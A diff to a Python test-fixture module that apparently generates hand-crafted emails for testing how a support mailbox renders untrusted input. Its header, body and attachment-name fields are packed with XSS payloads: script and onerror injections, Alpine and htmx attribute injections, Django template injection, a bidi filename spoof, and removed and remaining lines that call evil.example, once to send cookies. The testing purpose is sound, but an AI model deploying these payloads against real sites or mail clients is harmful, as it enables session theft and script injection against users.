@@ -2,25 +2,36 @@
 
 import base64
 
-# Whatever runs leaves this behind, and asks a stranger for a picture.
-RUN = "window.__xss=1;new Image().src='https://evil.example/'+document.cookie"
+# Whatever runs leaves this behind.
+RUN = "__xss=1"
 
+# A name may be 200 characters long: as many shapes together as fit, so that few mails
+# try them all. Each begins by leaving the attribute or the text that it stands in.
 _TAGS = (
-    f"<script>{RUN}</script>",
-    f'"><img src=x onerror="{RUN}">',
-    f'\'><svg onload="{RUN}">',
-    f"</title></textarea></style><svg/onload={RUN.replace(' ', '/**/')}>",
+    (
+        f'"><script>{RUN}</script>'
+        f'"><img src=x onerror="{RUN}">'
+        f'\'><svg onload="{RUN}">'
+        f"</title></textarea></style><svg/onload={RUN}>"
+    ),
     # Alpine and htmx are on the page: their attributes are scripts too.
-    f'"><div x-data x-init="{RUN}"></div>',
-    f'"><div x-data x-html="\'<img src=x onerror={RUN}>\'"></div>',
-    '"><div hx-get="https://evil.example/" hx-trigger="load"></div>',
-    f'"><div hx-on:htmx:load="{RUN}"></div>',
-    # Django's and Alpine's ways to put a value in.
-    "{{ request.user.password }}{% debug %}",
-    "${window.__xss=1}",
-    "\u202e\u2066exe.fdp\u2069",
-    "javascript:window.__xss=1",
+    (
+        f'"><div x-data x-init="{RUN}"></div>'
+        f'"><div x-data x-html="\'<img src=x onerror={RUN}>\'"></div>'
+        '"><p hx-get="https://evil.example/" hx-trigger="load"></p>'
+        f'"><p hx-on:htmx:load="{RUN}"></p>'
+    ),
+    # Django's and JavaScript's ways to put a value in, and names that deceive.
+    (
+        "{{ request.user.password }}{% debug %}"
+        f"${{{RUN}}}`${{{RUN}}}`"
+        '"><img src=//evil.example/n.png><base href=//evil.example/>'
+        "\u202e\u2066exe.fdp\u2069 javascript:alert(1)"
+    ),
 )
+
+# In the name of a file no slash survives.
+_FILENAME = f'"><img src=x onerror={RUN}>.html'
 
 # Shapes that a sanitiser which parses otherwise than the browser lets through.
 _MUTATIONS = (
@@ -48,16 +59,15 @@ _MUTATIONS = (
 
 
 def mails():
-    """Bytes, each with one shape in every field, and one with all of them as HTML."""
-    for number, shape in enumerate(_TAGS):
-        yield _mail(number, shape, _MUTATIONS[number % len(_MUTATIONS)])
-    for number, shape in enumerate(_MUTATIONS, start=len(_TAGS)):
-        yield _mail(number, _TAGS[number % len(_TAGS)], shape)
-    yield _mail(999, "alles", "".join(_MUTATIONS))
+    """Bytes: a thread for each group of tags, and every shape of HTML in one of them."""
+    shapes = [*_MUTATIONS, "".join(_MUTATIONS)]
+    for number, html in enumerate(shapes):
+        yield _mail(number, number % len(_TAGS), html)
 
 
-def _mail(number, shape, html):
+def _mail(number, group, html):
     """Written by hand: a library would refuse half of it."""
+    shape = _TAGS[group]
     word = base64.b64encode(shape.encode()).decode()
     encoded = "\r\n ".join(
         f"=?utf-8?B?{base64.b64encode(shape[at : at + 24].encode()).decode()}?="
@@ -71,13 +81,14 @@ def _mail(number, shape, html):
     )
     return "\r\n".join(
         [
-            f"From: {encoded} <klant{number}@bedrijf.nl>",
+            f"From: {encoded} <klant{group}@bedrijf.nl>",
             f'To: "{quoted}" <support@shop.nl>',
             f"Cc: {encoded} <collega{number}@bedrijf.nl>",
             f"Reply-To: {encoded} <antwoord{number}@bedrijf.nl>",
             f"Subject: {encoded}",
             f"Message-ID: <{identifier}.{number}@bedrijf.nl>",
             f"In-Reply-To: <{identifier}-before@bedrijf.nl>",
+            f"References: <begin-{group}@bedrijf.nl>",
             "Date: Wed, 25 Feb 2026 10:30:00 +0100",
             f"X-Mailer: {quoted}",
             "MIME-Version: 1.0",
@@ -98,8 +109,8 @@ def _mail(number, shape, html):
             base64.b64encode(f"<html><body>{html}</body></html>".encode()).decode(),
             "--c--",
             "--b",
-            f"Content-Type: text/html; name*=utf-8''{_percent(shape + '.html')}",
-            f"Content-Disposition: attachment; filename*=utf-8''{_percent(shape + '.html')}",
+            f"Content-Type: text/html; name*=utf-8''{_percent(_FILENAME)}",
+            f"Content-Disposition: attachment; filename*=utf-8''{_percent(_FILENAME)}",
             f"Content-ID: <{identifier}>",
             "Content-Transfer-Encoding: base64",
             "",
